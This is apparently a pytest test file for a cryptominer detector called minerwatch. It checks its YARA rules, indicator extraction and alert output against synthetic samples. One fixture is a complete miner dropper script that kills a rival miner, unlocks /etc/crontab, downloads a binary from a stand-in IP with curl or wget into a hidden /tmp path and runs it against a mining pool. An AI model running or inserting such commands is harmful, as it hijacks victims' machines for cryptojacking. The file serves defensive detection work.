"""Shipped YARA rules (a positive and a negative case each), user rule directories, indicators, alerts."""

from __future__ import annotations

import json
import struct
from pathlib import Path

import pytest

from minerwatch.capture.writer import PcapWriter, TcpConversation
from minerwatch.detectors.files.indicators import extract_indicators
from minerwatch.detectors.files.yara_scan import USER_SID_BASE, YaraScanner
from minerwatch.errors import InputError
from minerwatch.pipeline import Analysis, AnalysisOptions

WALLET = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"


def elf(*strings: bytes) -> bytes:
    """A 64-bit x86-64 ELF header followed by code-like filler and the given strings."""
    header = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 2, 62, 1) + bytes(40)
    return header + bytes(range(256)) * 8 + b"\x00".join(strings) + bytes(512)


XMRIG_LIKE = elf(
    b"XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/12.2.0",
    b"donate-level",
    b"randomx",
    b"stratum+tcp://",
    b"rx/0",
)
RENAMED_FORK = elf(
    b"kthreaddk", b"stratum+ssl://", b"mining.subscribe", b"cryptonight", b"huge-pages", b"hashrate"
)
CONFIG = json.dumps(
    {
        "autosave": True,
        "donate-level": 1,
        "randomx": {"init": -1},
        "pools": [{"url": "pool.supportxmr.com:443", "user": f"{WALLET}.rig7", "pass": "x", "tls": True}],
    },
    indent=4,
).encode()
DROPPER = (
    b"#!/bin/bash\n"
    b"pkill -9 -f kdevtmpfsi\nchattr -i /etc/crontab\necho 128 > /proc/sys/vm/nr_hugepages\n"
    b"curl -fsSL http://203.0.113.9/xm -o /tmp/.x/kworker\n"
    b"[ -s /tmp/.x/kworker ] || wget -q http://203.0.113.9/xm -O /tmp/.x/kworker\n"
    b"chmod +x /tmp/.x/kworker\n"
    b"nohup /tmp/.x/kworker -o stratum+tcp://xmr.pool.example:3333 -u "
    + WALLET.encode()
    + b" -p x --donate-level 1 &\n"
)
BENIGN = {
    "plain elf": elf(b"GNU coreutils", b"Usage: %s [OPTION]... [FILE]..."),
    "install script": b"#!/bin/sh\nset -e\ncurl -fsSL https://example.org/t.tgz -o t.tgz\n"
    b"tar xzf t.tgz\nchmod +x t\n",
    "package.json": b'{"name": "app", "version": "1.0.0", "scripts": {"start": "node index.js"}}',
    "page": b"<html><body>How pool mining works: stratum is a protocol.</body></html>",
}


@pytest.fixture(scope="module")
def scanner() -> YaraScanner:
    return YaraScanner()


def rules(scanner: YaraScanner, data: bytes) -> set[str]:
    return {m.rule for m in scanner.scan(data)}


@pytest.mark.parametrize(
    ("data", "rule"),
    [
        (XMRIG_LIKE, "MINERWATCH_XMRig_Binary"),
        (RENAMED_FORK, "MINERWATCH_Miner_Binary_Generic"),
        (CONFIG, "MINERWATCH_XMRig_Config"),
        (DROPPER, "MINERWATCH_Miner_Dropper_Script"),
        (DROPPER, "MINERWATCH_Miner_Dropper_Competitor_Kill"),
        (b"see stratum+tcp://pool.example.net:3333 for details", "MINERWATCH_Pool_URL"),
    ],
)
def test_each_shipped_rule_fires_on_its_sample(scanner: YaraScanner, data: bytes, rule: str) -> None:
    assert rule in rules(scanner, data)


def test_the_most_specific_miner_rule_wins(scanner: YaraScanner) -> None:
    assert rules(scanner, XMRIG_LIKE) == {"MINERWATCH_XMRig_Binary"}
    assert rules(scanner, CONFIG) == {"MINERWATCH_XMRig_Config"}


@pytest.mark.parametrize("name", sorted(BENIGN))
def test_shipped_rules_stay_quiet_on_ordinary_files(scanner: YaraScanner, name: str) -> None:
    assert rules(scanner, BENIGN[name]) == set()


def test_shipped_rules_carry_the_meta_alerts_need(scanner: YaraScanner) -> None:
    for data in (XMRIG_LIKE, RENAMED_FORK, CONFIG, DROPPER):
        for match in scanner.scan(data):
            assert 9_100_000 <= match.signature_id < 9_200_000
            assert {"description", "classtype", "severity", "confidence", "reference"} <= match.meta.keys()


def test_user_rule_directory_is_scanned_in_its_own_namespace(tmp_path: Path) -> None:
    (tmp_path / "mine.yar").write_text('rule Corp_Tool { strings: $a = "corp-secret-tool" condition: $a }')
    (tmp_path / "notes.txt").write_text("not a rule file")
    [match] = YaraScanner([tmp_path]).scan(b"xx corp-secret-tool xx")
    assert (match.rule, match.namespace) == ("Corp_Tool", "user.mine")
    assert USER_SID_BASE <= match.signature_id < USER_SID_BASE + 100_000
    assert match.signature_id == YaraScanner([tmp_path]).scan(b"corp-secret-tool")[0].signature_id


def test_broken_user_rules_and_missing_directories_are_input_errors(tmp_path: Path) -> None:
    (tmp_path / "bad.yar").write_text("rule { nope")
    with pytest.raises(InputError, match="do not compile"):
        YaraScanner([tmp_path])
    with pytest.raises(InputError, match="not found"):
        YaraScanner([tmp_path / "missing"])


def test_config_indicators_name_pool_and_wallet_with_their_place() -> None:
    assert extract_indicators(CONFIG, json_config=True) == [
        {"type": "pool-url", "value": "pool.supportxmr.com:443", "where": "json:pools[0].url"},
        {"type": "wallet", "value": WALLET, "where": "json:pools[0].user"},
    ]


def test_script_indicators_come_from_the_miner_command_line() -> None:
    assert extract_indicators(DROPPER, json_config=False) == [
        {"type": "pool-url", "value": "stratum+tcp://xmr.pool.example:3333", "where": "command-line:-o"},
        {"type": "wallet", "value": WALLET, "where": "command-line:-u"},
    ]


def test_binary_strings_and_bad_wallets() -> None:
    found = extract_indicators(elf(b"stratum+ssl://gulf.moneroocean.stream:20128", WALLET.encode()), False)
    assert found == [
        {"type": "pool-url", "value": "stratum+ssl://gulf.moneroocean.stream:20128", "where": "string:url"},
        {"type": "wallet", "value": WALLET, "where": "string:monero-address"},
    ]
    broken = WALLET[:-1] + ("B" if WALLET[-1] != "B" else "C")
    assert extract_indicators(broken.encode(), False) == []  # checksum fails: not reported from a bare string
    assert extract_indicators(b'{"url": "http://example.org:8080", "user": "bob"}', True) == []


def serve(tmp_path: Path, payloads: dict[str, bytes]) -> list[dict]:
    packets = []
    for i, (path, data) in enumerate(payloads.items()):
        c = TcpConversation("10.0.0.5", 40000 + i, "203.0.113.9", 80, ts=1_700_000_000.0 + i).open()
        c.send(True, b"GET /%s HTTP/1.1\r\nHost: 203.0.113.9\r\n\r\n" % path.encode())
        c.send(False, b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(data) + data).close()
        packets += c.packets
    capture = tmp_path / "served.pcap"
    with capture.open("wb") as out:
        PcapWriter(out).write_all(packets)
    events: list[dict] = []
    analysis = Analysis([events.append], AnalysisOptions())
    analysis.feed_file(capture)
    analysis.finish()
    return events


def test_file_events_carry_matches_and_indicators_and_alerts_cite_them(tmp_path: Path) -> None:
    events = serve(tmp_path, {"xmrig": XMRIG_LIKE, "config.json": CONFIG})
    files = {e["file"]["filename"]: e for e in events if e["event_type"] == "file"}
    alerts = [e for e in events if e["event_type"] == "alert" and "yara" in e["alert"]]
    assert [m["rule"] for m in files["xmrig"]["file"]["yara"]] == ["MINERWATCH_XMRig_Binary"]
    assert files["config.json"]["file"]["type"] == "json"
    assert {(i["type"], i["value"]) for i in files["config.json"]["file"]["indicators"]} == {
        ("pool-url", "pool.supportxmr.com:443"),
        ("wallet", WALLET),
    }
    by_rule = {a["alert"]["yara"]["rule"]: a["alert"] for a in alerts}
    binary = by_rule["MINERWATCH_XMRig_Binary"]
    assert (binary["signature_id"], binary["severity"], binary["confidence"]) == (9100001, 1, 0.9)
    assert binary["category"] == "Crypto Currency Mining Activity Detected"
    assert binary["evidence"] == [files["xmrig"]["event_id"]]
    assert binary["file"]["sha256"] == files["xmrig"]["file"]["sha256"]
    assert binary["yara"]["strings"] == ["$brand1", "$cfg1", "$cfg3", "$cfg4", "$cfg5"]
    assert by_rule["MINERWATCH_XMRig_Config"]["evidence"] == [files["config.json"]["event_id"]]


def test_benign_corpus_raises_no_file_alert(corpus: Path) -> None:
    index = (corpus / "INDEX.md").read_text()
    benign = [line.split("|")[1].strip() for line in index.splitlines() if "| BENIGN |" in line]
    assert benign
    for name in benign:
        events: list[dict] = []
        analysis = Analysis([events.append], AnalysisOptions())
        analysis.feed_file(corpus / name)
        analysis.finish()
        yara_alerts = [e for e in events if e["event_type"] == "alert" and "yara" in e["alert"]]
        assert yara_alerts == [], name
        assert all(not e["file"]["yara"] for e in events if e["event_type"] == "file"), name


def test_cli_extract_dir_and_user_rules(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from minerwatch.cli.main import main

    c = TcpConversation("10.0.0.5", 40000, "203.0.113.9", 80).open()
    c.send(True, b"GET /tool.bin HTTP/1.1\r\nHost: x\r\n\r\n")
    data = b"payload with corp-secret-tool inside"
    c.send(False, b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(data) + data).close()
    capture = tmp_path / "c.pcap"
    with capture.open("wb") as out:
        PcapWriter(out).write_all(c.packets)
    rules_dir, store = tmp_path / "rules", tmp_path / "store"
    rules_dir.mkdir()
    (rules_dir / "corp.yara").write_text('rule Corp_Tool { strings: $a = "corp-secret-tool" condition: $a }')
    args = ["analyze", str(capture), "--json", "--no-intel", "--no-progress", "--carve-all"]
    # A YARA match raises an alert: something was found, exit status 1.
    assert main([*args, "--extract-dir", str(store), "--yara-rules", str(rules_dir)]) == 1
    events = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    [file_event] = [e for e in events if e["event_type"] == "file"]
    assert file_event["file"]["yara"][0]["rule"] == "Corp_Tool"
    assert Path(file_event["file"]["stored"]).read_bytes() == data
    (rules_dir / "broken.yar").write_text("rule {")
    assert main([*args, "--yara-rules", str(rules_dir)]) == 2
    assert "YARA rules do not compile" in capsys.readouterr().err
